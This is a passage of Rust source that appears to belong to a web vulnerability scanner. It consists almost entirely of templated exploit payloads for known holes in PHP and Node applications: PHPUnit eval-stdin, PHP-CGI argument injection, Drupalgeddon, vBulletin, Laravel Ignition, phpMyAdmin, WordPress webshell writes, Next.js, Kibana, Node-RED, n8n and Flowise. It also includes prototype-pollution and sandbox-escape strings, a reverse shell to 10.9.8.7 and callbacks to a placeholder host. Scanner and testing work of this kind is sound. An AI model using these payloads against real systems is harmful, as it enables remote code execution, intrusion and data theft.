        "searchtype=5&searchword=«{if{searchpage:year}»&year=«:e{searchpage:area}}»&area=«v{searchpage:letter}»&letter=«al{searchpage:lang}»&yuyan=«(join{searchpage:jq}»&jq=«($_P{searchpage:ver}»&ver=«OST[§d]))»&§d[]=ph&§d[]=«pinfo();»",
    ),
    query("/index.php?m=vod-search&wd=«{if-A:assert($_POST[§w])}{endif-A}»"),
    header(
        "/user.php",
        "Referer: 45ea207d7a2b68c49582d2d22adf953aads|a:2:{s:3:\"num\";s:280:\"*/ union select 1,0x272f2a,3,4,5,6,7,8,0x7b24617364275d3b61737365727428§x,10-- -\";s:2:\"id\";s:3:\"'/*\";}",
    ),
    form("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php system('§c');echo '§w';?>"),
    other("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "text/plain", "<?=md5(§n)?>"),
    other(
        "/cgi-bin/php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
        "text/plain",
        "<?php system('§c');echo §n; ?>",
    ),
    other(
        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "text/plain",
        "<?php system('§k');echo §n; ?>",
    ),
    form(
        "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
        "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=«§c > §w.txt»",
    ),
    form(
        "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id%20§w",
        "form_id=user_pass&_triggering_element_name=name",
    )
    .at(Place::Query),
    form(
        "/ajax/render/widget_tabbedcontainer_tab_panel",
        "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=«echo shell_exec(\"§c\"); exit;»",
    ),
    form("/index.php", "routestring=ajax/render/widget_php&widgetConfig[code]=«die(@md5(§n));»"),
    json(
        "/_ignition/execute-solution",
        "{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\",\"parameters\":{\"variableName\":\"§w\",\"viewFile\":\"phar:///var/www/storage/logs/laravel.log/a.txt\"}}",
    ),
    form("/phpmyadmin/tbl_replace.php", "db=§w&table=t&find=«/e\\0»&replaceWith=«system('§c')»&useRegex=on"),
    query("/phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../../../tmp/sess_§t").spelled(DoublePercent),
    form("/zb_users/plugin/AppCentre/app_download.php", "content=«<?php @eval($_POST['§w']);?>»&path=§w.php"),
    form(
        "/wp-admin/theme-editor.php",
        "action=update&file=404.php&theme=twentyten&newcontent=«<?php system($_GET['§w']); ?>»",
    ),
    form("/index.php?r=api/run", "class=«yii\\rest\\CreateAction»&checkAccess=system&id=«§c»&n=§w"),
    form("/e/admin/ecmscom.php", "enews=EditTempvar&myvar=§w&temptext=«\\$\";?><?php @eval($_POST[1]);?>»"),
    form("/actions.php?n=install", "db_prefix=«met_*/@eval($_GET[1]);/*§w»"),
    form("/index.php/admin/setting/ucenter", "apikey=«');eval($_REQUEST[§w]);#»&_=§n"),
    query(
        "/api.php?op=get_menu&act=ajax_getlist&callback=aaaaa&parentid=0&key=«authkey&cachefile=..\\..\\..\\phpsso_server\\caches\\caches_admin\\caches_data\\applist&path=admin&x=eval($_POST[§w])»",
    ),
];

const NODE_VALUES: &[&str] = &[
    "require('child_process').execSync('§c').toString()",
    "process.mainModule.require('child_process').exec('curl http://§h/§w')",
    "global.process.mainModule.constructor._load('child_process').execSync('§c')",
    "(function(){return process.env})()//§w",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('§c')",
    "');require('fs').readFileSync('/§f','utf8');//",
    "{\"__proto__\":{\"isAdmin\":true,\"§w\":1}}",
    "{\"constructor\":{\"prototype\":{\"role\":\"admin\",\"§w\":1}}}",
    "{\"__proto__\":{\"client\":true,\"escapeFunction\":\"1;return process.mainModule.require('child_process').execSync('§c')\"}}",
    "{\"__proto__\":{\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":{\"EVIL\":\"require('child_process').execSync('§c')//\"},\"shell\":\"node\"}}",
    "require('net').connect(§n,'10.9.8.7',function(){this.pipe(require('child_process').spawn('sh').stdin)})",
    "global.constructor.constructor('return process.binding(\"spawn_sync\")')()//§w",
    "import('child_process').then(m=>m.execSync('§c'))",
    "eval(\"req\"+\"uire('child_\"+\"process').execSync('§c')\")",
    "1;process.exit(§d)",
    "[].map.constructor('return require(\"os\").hostname()+\"§w\"')()",
    "const err=new Error();err.name={toString:new Proxy(()=>'',{apply(t,a,r){return r.constructor.constructor('return process')()}})};err.stack//§w",
    "vm.runInNewContext('this.constructor.constructor(\"return process\")().exit(§d)')",
    "${require('child_process').execSync('§c')}",
    "while(1){}//§w",
    "setTimeout(function(){require('http').get('http://§h/'+process.cwd())},§n)",
    "Buffer.from(require('fs').readdirSync('/').join()).toString('base64')+'§w'",
];

/// Frameworks, consoles and gateways on Node.
const NODE_HOLES: &[Hole] = &[
    other("/?§w", "multipart/form-data; boundary=----WebKitFormBoundaryx8jO2oVc6SWP3Sad", "------WebKitFormBoundaryx8jO2oVc6SWP3Sad\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\",\"reason\":-1,\"value\":\"{\\\"then\\\":\\\"$B1337\\\"}\",\"_response\":{\"_prefix\":\"process.mainModule.require('child_process').execSync('§c');\",\"_chunks\":\"$Q2\",\"_formData\":{\"get\":\"$1:constructor:constructor\"}}}\r\n------WebKitFormBoundaryx8jO2oVc6SWP3Sad\r\nContent-Disposition: form-data; name=\"1\"\r\n\r\n\"$@0\"\r\n------WebKitFormBoundaryx8jO2oVc6SWP3Sad\r\nContent-Disposition: form-data; name=\"2\"\r\n\r\n[]\r\n------WebKitFormBoundaryx8jO2oVc6SWP3Sad--\r\n").with("Next-Action: x").at(Place::Multipart),
    json("/api/fleet/output", "{\"__proto__\":{\"sourceURL\":\"\\u2028\\u2029\\nglobal.process.mainModule.require('child_process').exec('§c')\"},\"n\":§n}"),
    json("/api/timelion/run", "{\"sheet\":[\".es(*).props(label.__proto__.env.AAAA='require(\\\"child_process\\\").exec(\\\"§c\\\");process.exit()//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')\"],\"time\":{\"from\":\"now-15m\",\"to\":\"now\",\"interval\":\"auto\",\"n\":§n}}"),
    json("/flows", "[{\"id\":\"§x\",\"type\":\"exec\",\"command\":\"§c\",\"addpay\":\"\",\"timer\":\"\",\"wires\":[[],[],[]]}]"),
    json("/flows", "[{\"id\":\"§x\",\"type\":\"function\",\"func\":\"global.get('process').mainModule.require('child_process').execSync('§c');return msg;\",\"outputs\":1}]"),
    json("/rest/workflows/run", "{\"workflowData\":{\"nodes\":[{\"name\":\"§w\",\"type\":\"n8n-nodes-base.set\",\"parameters\":{\"value\":\"={{ (function(){ return this.process.mainModule.require('child_process').execSync('§c').toString() })() }}\"}}]}}"),
    json("/mock/§n/test", "{\"mock_script\":\"const sandbox=this;const p=sandbox.constructor.constructor('return process')();mockJson=p.mainModule.require('child_process').execSync('§c').toString()\"}"),
    json("/api/plugin/export", "{\"script\":\"this.constructor.constructor('return process')().mainModule.require('child_process').execSync('§c')\",\"id\":§n}"),
    form("/checkValid", "document=«this.constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"§c\")»"),
    query("/api/getServices?name[]=«$(§c)»&n=§n"),
    json("/api/v1/node-load-method/customMCP", "{\"loadMethod\":\"listActions\",\"inputs\":{\"mcpServerConfig\":\"({x:(function(){return process.mainModule.require('child_process').execSync('§c')})()})\"}}"),
    cookie("/", "Cookie: profile=⟨{\"username\":\"§w\",\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('§c')}()\"}⟩").spelled(Base64),
    json("/api/register", "{\"name\":\"§w\",\"__proto__\":{\"outputFunctionName\":\"_tmp1;global.process.mainModule.require('child_process').execSync('§c');var __tmp2\"}}"),
    query("/page?name=§w&settings[view%20options][outputFunctionName]=«x;process.mainModule.require('child_process').execSync('§c');s»"),
    form("/upload?x=§w", "«__proto__[polluted]»=§w&«constructor[prototype][admin]»=1"),
    query("/page?«__proto__[block][type]»=Text&«__proto__[block][line]»=«process.mainModule.require('child_process').execSync('§c')»"),
    json("/api/v2/graphql", "{\"operationName\":\"x\",\"variables\":{\"input\":{\"__proto__\":{\"role\":\"admin\"},\"id\":§n}},\"query\":\"mutation x($input:I!){update(input:$input){id}}\"}"),
];
